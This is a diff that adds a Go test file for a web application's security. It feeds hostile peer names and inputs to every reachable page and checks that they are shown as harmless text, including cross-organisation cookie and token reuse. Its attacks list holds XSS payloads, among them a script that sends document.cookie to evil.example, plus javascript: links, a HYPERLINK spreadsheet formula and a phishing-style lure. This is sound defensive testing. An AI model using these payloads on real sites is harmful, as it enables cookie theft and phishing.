@@ -1,0 +1,280 @@
+// SPDX-License-Identifier: EUPL-1.2
+
+package web
+
+import (
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"html"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/google/uuid"
+
+	"github.com/samenspel/samenspel/fsc"
+	"github.com/samenspel/samenspel/internal/controller"
+	"github.com/samenspel/samenspel/internal/directory"
+	"github.com/samenspel/samenspel/internal/manager"
+)
+
+// attacks are what other Peers call themselves and their services.
+var attacks = []string{
+	`<script>fetch("https://evil.example/"+document.cookie)</script>`,
+	`"><img src=x onerror=alert(1)>`,
+	`' autofocus onfocus='alert(1)`,
+	`javascript:alert(1)//`,
+	`{{.Actor}}{{template "layout" .}}${7*7}`,
+	`</textarea></select></title></svg><svg onload=alert(1)>`,
+	"Gemeente \u202edatsdleebrooV\u202c",
+	"Gemeente\u200b Voor\u00adbeeldstad\u2066\u2028\x00\x1b[2J",
+	"Gemeente\r\nVoorbeeldstad\n\n\tLog opnieuw in",
+	"Gemeente Voorbeeldstad, log in op https://evil.example/login",
+	`=HYPERLINK("https://evil.example","Klik hier")`,
+	strings.Repeat("Zeer", 2500),
+}
+
+// besieged is a deal among Peers that are all hostile: their names, their
+// services in the Directory, what they ask for and the properties with it.
+func besieged(t *testing.T) *deal {
+	t.Helper()
+	d := newDeal(t)
+	var listed []directory.Listing
+	for i, attack := range attacks {
+		p := fsc.Peer{ID: fsc.PeerID(fmt.Sprintf("00000099%012d", 5000+i)), Name: attack, ManagerAddress: "javascript:alert(1)"}
+		must(t, d.manager.Announce(t.Context(), manager.Caller{Peer: p, ManagerAddress: p.ManagerAddress, Certificate: d.parties[source].pair.Leaf()}))
+		properties, err := json.Marshal(map[string]any{attack: attack, "url": "https://evil.example/", "documentation": "javascript:alert(1)"})
+		must(t, err)
+		listed = append(listed,
+			directory.Listing{Peer: p, Name: attack, Protocol: fsc.Protocol(attack), Delegator: p, Properties: properties},
+			directory.Listing{Peer: p, Name: "personen", Protocol: fsc.ProtocolHTTP11, Properties: properties})
+		if len(properties) <= 4096 { // the most a Manager takes
+			d.begs(t, properties)
+		}
+	}
+	quiet := slog.New(slog.DiscardHandler)
+	d.s.cfg.Controller = controller.New(controller.Config{
+		Manager: d.manager, People: d.s.people, Log: d.db.Log(), Remote: elsewhere{}, GroupID: "test-group", GroupType: "test", Now: testNow, Logger: quiet,
+		Directory:    func(context.Context) ([]directory.Listing, error) { return listed, nil },
+		Certificates: func() []controller.Certificate { return nil },
+		Health:       func() []controller.Check { return []controller.Check{{Name: "store", Problem: attacks[0]}} },
+		Refusals:     func() []controller.Refusal { return nil },
+		Outways:      func() []controller.Outway { return nil },
+	})
+	return d
+}
+
+// begs makes the other organisation ask for a service with properties.
+func (d *deal) begs(t *testing.T, properties []byte) {
+	t.Helper()
+	iv, err := uuid.NewV7()
+	must(t, err)
+	c, err := fsc.Draft{
+		IV: iv.String(), GroupID: "test-group", NotBefore: testNow(), NotAfter: testNow().AddDate(1, 0, 0), CreatedAt: testNow(),
+		Grants: []fsc.Grant{{
+			Type: fsc.GrantTypeServiceConnection, Outway: fsc.Outway{PeerID: source, PublicKeyThumbprint: d.parties[source].pair.PublicKeyThumbprint()},
+			Service: fsc.Service{Type: fsc.ServiceTypeService, PeerID: town, Name: "personen"}, Properties: properties,
+		}},
+	}.Content(fsc.Rules{GroupID: "test-group"})
+	must(t, err)
+	jws, err := fsc.Sign(d.parties[source].signer, c.Hash(), fsc.SignatureTypeAccept, testNow())
+	must(t, err)
+	must(t, d.manager.Submit(t.Context(), d.caller(source), manager.Submission{Content: c.Raw(), Signature: jws}))
+}
+
+var attribute = regexp.MustCompile(`="[^"]*"`)
+
+var linkTo = regexp.MustCompile(`(?:href|src|action|formaction|hx-get)="([^"]*)"`)
+
+// TestNothingOfAHostilePeerRunsHidesOrLeadsAway visits every page that can be
+// reached by links from the first, and looks at what a browser would make of it.
+func TestNothingOfAHostilePeerRunsHidesOrLeadsAway(t *testing.T) {
+	d := besieged(t)
+	b := d.browser(t).setUp()
+	b.post("/login", "email", attacks[1], "password", attacks[0]) // lands in the audit trail
+	seen, queue := map[string]bool{"/": true}, []string{"/"}
+	for len(queue) > 0 && len(seen) < 1500 {
+		path := queue[0]
+		queue = queue[1:]
+		page := b.get(path)
+		if page.StatusCode >= http.StatusInternalServerError {
+			t.Errorf("%s: %d", path, page.StatusCode)
+		}
+		switch kind := page.Header.Get("Content-Type"); {
+		case strings.HasPrefix(kind, "text/html") && page.StatusCode != http.StatusSeeOther:
+			t.Run(strconv.Itoa(len(seen)), func(t *testing.T) { safePage(t, path, page.text) })
+		case strings.HasPrefix(kind, "text/csv"):
+			noFormulas(t, path, page.text)
+		}
+		for _, m := range linkTo.FindAllStringSubmatch(page.text, -1) {
+			to, _, _ := strings.Cut(html.UnescapeString(m[1]), "#")
+			if to != "" && strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "/assets/") && !seen[to] && tried(seen, to) < 15 {
+				seen[to] = true
+				queue = append(queue, to)
+			}
+		}
+	}
+	for _, path := range []string{"/directory", "/contracts", "/peers", "/log", "/audit", "/explain", "/policy", "/settings", "/certificates", "/applications", "/services", "/people"} {
+		if !seen[path] {
+			t.Errorf("%s can't be reached", path)
+		}
+	}
+	t.Logf("%d pages", len(seen))
+}
+
+// tried counts the pages seen below the same first part of a path.
+func tried(seen map[string]bool, to string) (n int) {
+	part := func(path string) string {
+		path, query, _ := strings.Cut(path, "?")
+		name, _, _ := strings.Cut(query, "=")
+		if i := strings.LastIndexByte(path, '/'); strings.Count(path, "/") > 1 {
+			path = path[:i]
+		}
+		return path + "?" + name
+	}
+	for other := range seen {
+		if part(other) == part(to) {
+			n++
+		}
+	}
+	return n
+}
+
+// safePage refuses scripts, links to elsewhere and hidden characters.
+func safePage(t *testing.T, path, page string) {
+	t.Helper()
+	if t.Failed() {
+		return
+	}
+	defer func() {
+		if t.Failed() {
+			t.Logf("on %s", path)
+		}
+	}()
+	// A control in the value of a field can do nothing, but isn't XML.
+	page = attribute.ReplaceAllStringFunc(page, func(value string) string {
+		return strings.Map(func(r rune) rune {
+			if r < ' ' && r != '\n' && r != '\t' && r != '\r' {
+				return -1
+			}
+			return r
+		}, value)
+	})
+	checkMarkup(t, page)
+	for _, m := range linkTo.FindAllStringSubmatch(page, -1) {
+		u, err := url.Parse(html.UnescapeString(m[1]))
+		if err != nil || u.Host != "" || u.Scheme != "" {
+			t.Errorf("leads to %q", m[1])
+		}
+	}
+	d := xml.NewDecoder(strings.NewReader(page))
+	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
+	for {
+		token, err := d.Token()
+		if errors.Is(err, io.EOF) {
+			break
+		}
+		must(t, err)
+		text, ok := token.(xml.CharData)
+		if i := strings.IndexFunc(string(text), hidden); ok && i >= 0 {
+			t.Errorf("%q isn't shown", string(text)[max(0, i-20):min(len(text), i+20)])
+			break
+		}
+	}
+}
+
+func noFormulas(t *testing.T, path, text string) {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	must(t, err)
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s has the formula %q", path, cell)
+			}
+		}
+	}
+}
+
+func TestAHostileDescriptionOfAnAPIIsText(t *testing.T) {
+	d := besieged(t)
+	b := d.browser(t).setUp()
+	page := directoryURL("00000099000000005000", "personen") + "/openapi"
+	for _, attack := range attacks {
+		document, err := json.Marshal(map[string]any{
+			"openapi": attack, "info": map[string]any{"title": attack, "version": attack, "description": attack, "contact": map[string]any{"url": "javascript:alert(1)"}},
+			"servers": []any{map[string]any{"url": "https://evil.example"}}, "externalDocs": map[string]any{"url": "https://evil.example"},
+			"paths": map[string]any{"/" + attack: map[string]any{"get": map[string]any{
+				"summary": attack, "operationId": attack, "parameters": []any{map[string]any{"name": attack, "in": attack}}, "responses": map[string]any{attack: 1},
+			}}},
+		})
+		must(t, err)
+		got := b.post(page, "document", string(document))
+		got.want(t, http.StatusOK, "")
+		// What was pasted stands in its field again as it was.
+		shown := regexp.MustCompile(`(?s)<textarea.*?</textarea>`).ReplaceAllString(got.text, `<p id="f-document"></p>`)
+		safePage(t, page, shown)
+		if len(shown) > 100_000 {
+			t.Errorf("the page of %.20q has %d bytes", attack, len(shown))
+		}
+	}
+}
+
+// TestALoginAtOneOrganisationIsWorthNothingAtAnother is about organisations on
+// one host, as in a fieldlab.
+func TestALoginAtOneOrganisationIsWorthNothingAtAnother(t *testing.T) {
+	ours, theirs := newDeal(t), newDeal(t)
+	b, foreign := ours.browser(t).setUp(), theirs.browser(t).setUp()
+	hash := theirs.asks(t, "personen")
+	made := foreign.post("/account/tokens", "token_name", "export", "days", "90", "scopes", "read").want(t, http.StatusOK, "")
+	secret := regexp.MustCompile(`snsp_[A-Za-z0-9_-]{43}`).FindString(made.text)
+	if _, err := ours.s.people.AuthenticateToken(t.Context(), secret); err == nil || secret == "" {
+		t.Errorf("a token of another organisation is taken: %v", err)
+	}
+	there, err := url.Parse(theirs.url)
+	must(t, err)
+	here, err := url.Parse(ours.url)
+	must(t, err)
+	stolen := ours.browser(t)
+	stolen.http.Jar.SetCookies(here, foreign.http.Jar.Cookies(there))
+	stolen.get("/contracts").want(t, http.StatusSeeOther, "/login?return-to=%2Fcontracts")
+	stolen.post("/account/sessions/end").want(t, http.StatusSeeOther, "/login")
+	// What is there by its address isn't here.
+	page := contractPath(hash)
+	foreign.get(page).want(t, http.StatusOK, "")
+	for _, path := range []string{page, page + "/content", page + "/accept", page + "/revoke", page + "/renew"} {
+		b.get(path).want(t, http.StatusNotFound, "")
+	}
+	b.post(page+"/accept", "confirmed", "yes").want(t, http.StatusNotFound, "")
+	token := regexp.MustCompile(`/account/tokens/([0-9a-f-]{36})/revoke`).FindStringSubmatch(foreign.get("/account").text)
+	if token == nil {
+		t.Fatal("the token isn't listed")
+	}
+	b.post("/account/tokens/"+token[1]+"/revoke").want(t, http.StatusNotFound, "")
+	if _, err := theirs.s.people.AuthenticateToken(t.Context(), secret); err != nil {
+		t.Error(err)
+	}
+	foreign.get("/account").want(t, http.StatusOK, "")
+}
+
+func TestAForeignCookieCannotPutAPageTogether(t *testing.T) {
+	b := newSite(t).browser(t).setUp()
+	at, err := url.Parse(b.site.url)
+	must(t, err)
+	for _, attack := range attacks {
+		for _, key := range []string{"people.flash.created", attack, "x.flash." + attack} {
+			v := url.Values{"k": {key}, "a.name": {attack}, "a.count": {attack}}
+			b.http.Jar.SetCookies(at, []*http.Cookie{{Name: flashCookie, Value: url.QueryEscape(v.Encode())[:min(3000, len(url.QueryEscape(v.Encode())))]}})
+			safePage(t, "/account", b.get("/account").want(t, http.StatusOK, "").text)
+		}
+	}
+}
